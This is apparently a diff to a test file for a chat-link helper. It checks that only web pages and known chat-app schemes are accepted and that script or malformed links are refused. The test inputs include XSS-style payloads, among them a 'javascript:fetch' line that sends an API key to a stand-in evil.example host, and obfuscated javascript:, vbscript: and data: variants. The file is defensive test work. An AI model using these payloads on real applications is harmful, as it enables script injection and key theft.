@@ -41,11 +41,37 @@ describe('helpers', () => {
     ]);
     expect(parseChats(null)).toEqual([]);
   });
-  it('classifies links and spots third-party hosts', () => {
-    expect(chatLinkKind('https://chat.example.com')).toBe('web');
-    expect(chatLinkKind('cherrystudio://providers')).toBe('app');
+  it('spots third-party hosts', () => {
     expect(sendsKeyToThirdParty('https://chat.example.com/?k=1', 'https://gw.example.com')).toBe(true);
     expect(sendsKeyToThirdParty('https://gw.example.com/chat', 'https://gw.example.com')).toBe(false);
     expect(sendsKeyToThirdParty('opencat://x', 'https://gw.example.com')).toBe(false);
+    expect(sendsKeyToThirdParty('javascript:alert(1)', 'https://gw.example.com')).toBe(false);
+  });
+});
+
+describe('chatLinkKind: only web pages and known chat apps may be opened', () => {
+  it.each([
+    ['https://chat.example.com/?k=sk-1', 'web'],
+    ['HTTP://chat.example.com', 'web'],
+    ['cherrystudio://providers/api-keys?v=1', 'app'],
+    ['opencat://team/join?token=sk-1', 'app'],
+    ['ama://set-api-key?key=sk-1', 'app'],
+    ['aionui://provider/add', 'app'],
+    ['javascript:fetch("https://evil.example/?k=sk-1")', 'refused'],
+    ['JavaScript:alert(1)', 'refused'],
+    [' javascript:alert(1)', 'refused'],
+    ['java\tscript:alert(1)', 'refused'],
+    ['\u0001https://chat.example.com', 'refused'],
+    ['data:text/html,<script>alert(1)</script>', 'refused'],
+    ['vbscript:msgbox(1)', 'refused'],
+    ['//evil.example/?k=sk-1', 'refused'],
+    ['sk-1/chat', 'refused'],
+    ['https%3A%2F%2Fgw.example.com', 'refused'],
+    ['fluentread', 'refused'],
+  ] as const)('%j → %s', (link, kind) => {
+    expect(chatLinkKind(link)).toBe(kind);
+  });
+  it('refuses a template whose placeholder comes first', () => {
+    expect(chatLinkKind(buildChatLink('{address}/chat?k={key}', KEY, 'https://gw.example.com'))).toBe('refused');
   });
 });
